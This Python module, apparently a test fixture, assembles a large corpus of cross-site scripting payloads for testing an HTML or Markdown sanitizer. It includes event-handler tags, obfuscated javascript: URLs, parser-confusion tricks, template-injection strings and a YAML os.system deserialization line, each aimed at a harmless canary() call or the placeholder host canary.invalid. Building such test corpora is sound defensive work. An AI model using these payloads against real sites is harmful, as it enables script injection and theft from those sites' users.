# ruff: noqa: E501 (an attack is read best on one line)
"""What somebody may write so that a reader's browser runs it: each calls `canary()` or asks HOST."""

HOST = "canary.invalid"
_RUN = "canary()"
_AT = f"//{HOST}/x"

_EVENTS = [
    f"<{tag} {attributes} {event}={_RUN}>"
    for tag, attributes, event in [
        ("img", "src=x", "onerror"), ("img", "src=data:,", "onload"), ("svg", "", "onload"),
        ("body", "", "onpageshow"), ("input", "autofocus", "onfocus"), ("details", "open", "ontoggle"),
        ("video", "src=x", "onerror"), ("audio", "src=x", "onerror"), ("marquee", "", "onstart"),
        ("iframe", "src=about:blank", "onload"), ("object", "data=x", "onerror"), ("p", "tabindex=1", "onfocusin"),
        ("style", "", "onload"), ("link", "rel=stylesheet href=x", "onerror"), ("select", "autofocus", "onfocus"),
    ]
]  # fmt: skip
_ADDRESSES = [
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"java&#10;script:{_RUN}",
    f"&#106;avascript:{_RUN}", f"javascript&colon;{_RUN}", f"\x01javascript:{_RUN}", f" javascript:{_RUN}",
    f"vbscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>", f"javascript://%0a{_RUN}",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==", f"javascript:/*--></title>*/{_RUN}", _AT,
]  # fmt: skip
_LINKS = [
    form.format(address)
    for address in _ADDRESSES
    for form in ("[x]({})", "![x]({})", "<{}>", '<a href="{}">x</a>', "[x][r]\n\n[r]: <{}>")
]
_TAGS = [
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script src={_AT}></script>",
    f"<script\n>{_RUN}</script\n>", f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<script>{_RUN}",
    f"<script/x>{_RUN}</script>", f"\"><script>{_RUN}</script>", f"'><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>", f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"</style><script>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>", f"<svg><use href={_AT}#x></svg>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    f"<math href=javascript:{_RUN}>x</math>", f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    f"<svg></p><style><a title=\"</style><img src=x onerror={_RUN}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<template><img src=x onerror={_RUN}></template>", f"<xmp><p title=\"</xmp><img src=x onerror={_RUN}>\">",
    f"<iframe srcdoc=\"<script>parent.{_RUN}</script>\"></iframe>", f"<iframe src=javascript:parent.{_RUN}>",
    f"<object data={_AT}></object>", f"<embed src={_AT}>", f"<base href={_AT}/>",
    f"<meta http-equiv=refresh content=\"0;url={_AT}\">", f"<link rel=stylesheet href={_AT}>",
    f"<img src={_AT}>", f"<style>@import '{_AT}';</style>", f"<p style=\"background:url({_AT})\">x</p>",
    f"<form action={_AT}><button autofocus>x</button></form>", f"<a href=x ping={_AT}>x</a>",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e", f"\u202e>tpircs/<)(yranac>tpircs<\u202c<img src=x onerror={_RUN}>",
    f"<img\x0csrc=x\x0conerror={_RUN}>", f"<img/src=x/onerror={_RUN}>", '<img src=x onerror="&#99;anary()">',
    f"&lt;img src=x onerror={_RUN}&gt;", f"<\u200bscript>{_RUN}</script>",
]  # fmt: skip
_MARKDOWN = [
    f"```\"><img src=x onerror={_RUN}>\nx\n```", f"```<script>{_RUN}</script>\nx\n```", f"`<img src=x onerror={_RUN}>`",
    f"| <img src=x onerror={_RUN}> | b |\n| --- | --- |\n| <svg onload={_RUN}> | [x](javascript:{_RUN}) |",
    f"![\"><img src=x onerror={_RUN}>](x)", f"[x](y \"\" onmouseover={_RUN})", f"[x](y '\"><img src=x onerror={_RUN}>')",
    f"x[^<img src=x onerror={_RUN}>]\n\n[^<img src=x onerror={_RUN}>]: <svg onload={_RUN}>",
    f"### <img src=x onerror={_RUN}> {{#x onclick={_RUN}}}", f"- [ ] <img src=x onerror={_RUN}>",
    f"> <svg onload={_RUN}>", f"**<img src=x onerror={_RUN}>**", f"<!-- --><img src=x onerror={_RUN}>",
    f"{{{{ constructor.constructor('{_RUN}')() }}}}", "{% load x %}{{ request.user }}", f"${{{_RUN}}}",
    f"\";{_RUN};//", f"';{_RUN};//", f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e", f"\u2028{_RUN}\u2029",
    f"---\ntitle: !!python/object/apply:os.system [x]\n---\n<img src=x onerror={_RUN}>",
]  # fmt: skip

ATTACKS = [*_EVENTS, *_TAGS, *_MARKDOWN, *_LINKS]
